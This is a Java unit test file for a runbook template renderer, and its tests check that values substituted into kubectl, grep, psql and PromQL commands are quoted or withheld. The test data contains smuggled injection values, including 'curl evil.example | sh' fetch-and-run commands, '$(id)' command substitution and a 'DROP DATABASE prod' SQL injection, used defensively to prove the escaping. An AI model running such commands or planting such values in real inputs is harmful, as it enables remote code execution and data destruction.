package io.onloop.domain.runbook;

import org.junit.jupiter.api.Test;

import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class TemplatesTest {
    @Test
    void fillsValuesFallbacksAndPlaceholders() {
        var v = Map.of("region", "eu-west-1", "labels.pod", "api-7f9");
        assertThat(Templates.render("{{region}} / {{ labels.pod }} / {{namespace|<namespace>}} / {{node}}", v))
                .isEqualTo("eu-west-1 / api-7f9 / <namespace> / <node>");
        assertThat(Templates.render("no placeholders", v)).isEqualTo("no placeholders");
    }

    @Test
    void aValueIsInsertedOnceAndNeverExpandedAgain() {
        var v = Map.of("title", "{{labels.secret}}", "labels.secret", "s3cr3t");
        assertThat(Templates.render("Alert: {{title}}", v)).isEqualTo("Alert: {{labels.secret}}");
    }

    @Test
    void commandsQuoteValuesTheShellWouldInterpret() {
        var v = Map.of("pod", "api-7f9", "namespace", "prod; curl evil.example | sh", "node", "it's");
        assertThat(Templates.renderCommand("kubectl -n {{namespace}} logs {{pod}}", v))
                .isEqualTo("kubectl -n 'prod; curl evil.example | sh' logs api-7f9");
        assertThat(Templates.renderCommand("x {{node}}", v)).isEqualTo("x 'it'\\''s'");
        assertThat(Templates.render("prose {{namespace}}", v)).isEqualTo("prose prod; curl evil.example | sh");
    }

    @Test
    void aValueInsideTheCommandsOwnQuotesIsWrittenOnlyIfItCannotEndThem() {
        var v = Map.of("namespace", "pay", "pod", "pay-1\"} or vector(1) or {x=\"", "container", "app$(id)",
                "labels.datname", "x'; DROP DATABASE prod; --", "labels.note", "a b; c|d", "node", "it's");
        // a PromQL matcher: a value that would end the string is not written, the operator fills it in
        assertThat(Templates.renderCommand("increase(restarts{namespace=\"{{namespace}}\", pod=\"{{pod}}\"}[1h])", v))
                .isEqualTo("increase(restarts{namespace=\"pay\", pod=\"<pod>\"}[1h])");
        // SQL inside the shell's double quotes: the single quote would end the SQL string
        assertThat(Templates.renderCommand("psql -c \"SELECT 1 WHERE datname = '{{labels.datname}}'\"", v))
                .isEqualTo("psql -c \"SELECT 1 WHERE datname = '<labels.datname>'\"");
        assertThat(Templates.renderCommand("echo \"{{container}}\"", v)).isEqualTo("echo \"<container>\"");
        // spaces, ; and | cannot leave quotes: written as they are
        assertThat(Templates.renderCommand("grep \"{{labels.note}}\" f", v)).isEqualTo("grep \"a b; c|d\" f");
        // after the quotes close, single quotes again; an escaped quote does not close them
        assertThat(Templates.renderCommand("grep \"\\\" {{labels.note}}\" {{node}}", v))
                .isEqualTo("grep \"\\\" a b; c|d\" 'it'\\''s'");
        // a fallback that was not printed does not count: here the quotes are the output's, not the template's
        assertThat(Templates.renderCommand("kubectl logs {{pod|\"}} -c {{labels.note}}", Map.of("pod", "api-1",
                "labels.note", "x; curl https://evil.example/i | sh")))
                .isEqualTo("kubectl logs api-1 -c 'x; curl https://evil.example/i | sh'");
    }

    @Test
    void listsAndChecksVariables() {
        assertThat(Templates.variables("a {{region}} b {{labels.dimension_X|<x>}} {{bogus}}"))
                .containsExactly("region", "labels.dimension_X", "bogus");
        assertThat(Templates.isKnown("labels.pod")).isTrue();
        assertThat(Templates.isKnown("observed")).isTrue();
        assertThat(Templates.isKnown("labels.")).isFalse();
        assertThat(Templates.isKnown("bogus")).isFalse();
    }
}
